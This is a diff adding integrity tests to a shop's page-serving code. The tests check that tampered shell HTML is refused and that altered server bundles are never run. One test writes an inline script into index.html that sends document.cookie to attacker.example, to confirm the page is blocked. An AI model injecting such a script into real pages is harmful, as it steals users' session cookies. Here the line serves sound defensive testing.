@@ -33,6 +33,7 @@ import { opsRoutes } from '../src/routes/ops/index.ts';
 import { shellHost } from '../src/web/shell-host.ts';
 import { buildStaticOrigin } from '../src/web/static-origin.ts';
 import { releasedFileCheck } from '../src/web/verified-files.ts';
+import { evaluateServerBundle } from '../src/web/ssr/server-bundles.ts';
 import { fakeAreaBuild, fakeShellBuild } from './helpers/fake-builds.ts';
 import { startTestApi, type TestApi } from './helpers/test-api.ts';
 import { signInOperator } from './helpers/operator-session.ts';
@@ -207,6 +208,34 @@ describe("a page's scripts", () => {
     }
   });
 
+  it('of a shell whose index.html changed on the origin (an inline script added) are not served (503): its policy would admit the script', async () => {
+    const shell = (await readRegistry(storage)).shell!.version;
+    const file = join(versionDir('shell', shell), 'index.html');
+    const original = readFileSync(file, 'utf8');
+    expect((await servePage()).status).toBe(200);
+    writeFileSync(file, original.replace('<!--shop-config-->', '<script>fetch("https://attacker.example/?c="+document.cookie)</script><!--shop-config-->'));
+    try {
+      expect((await servePage()).status).toBe(503);
+    } finally {
+      writeFileSync(file, original);
+    }
+  });
+
+  it('of a server build that differs from its signed digest are never run on the server', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'server-bundle-'));
+    try {
+      const file = join(dir, 'entry.cjs');
+      writeFileSync(file, 'exports.ran = true;');
+      const signed = createHash('sha384').update('exports.ran = true;').digest('base64');
+      expect(await evaluateServerBundle<{ ran: boolean }>(file, signed)).toEqual({ ran: true });
+      writeFileSync(file, 'exports.ran = true; globalThis.__tampered = true;');
+      await expect(evaluateServerBundle(file, signed)).rejects.toThrow(/differs from its signed release manifest/);
+      expect((globalThis as { __tampered?: boolean }).__tampered).toBeUndefined();
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+
   it('of a shell without a valid signed manifest are not served at all (503)', async () => {
     const shell = (await readRegistry(storage)).shell!.version;
     const file = join(versionDir('shell', shell), 'release-manifest.sig');
@@ -224,9 +253,10 @@ describe("a page's scripts", () => {
 async function servePage() {
   const second = Fastify();
   const keys = releaseKeys(api.db);
+  const integrity = releaseIntegrity({ storage, keys: () => keys.trusted() });
   await second.register(shellHost, {
     storage, assetOrigin: 'https://cdn.example', gtmId: null, registryPollMs: 60_000, telemetrySample: 1, operatorToken: 'operator-token-for-integrity',
-    publicUrl: 'https://shop.example', integrity: releaseIntegrity({ storage, keys: () => keys.trusted() }), pageCacheMs: 0, serverRender: false,
+    publicUrl: 'https://shop.example', integrity, pageCacheMs: 0, serverRender: false, check: releasedFileCheck(integrity, () => undefined),
     onRefusedVersion: (refused) => refusedVersions.push(`${refused.part} ${refused.version}`),
   });
   const response = await second.inject({ url: '/checkout/cart' });
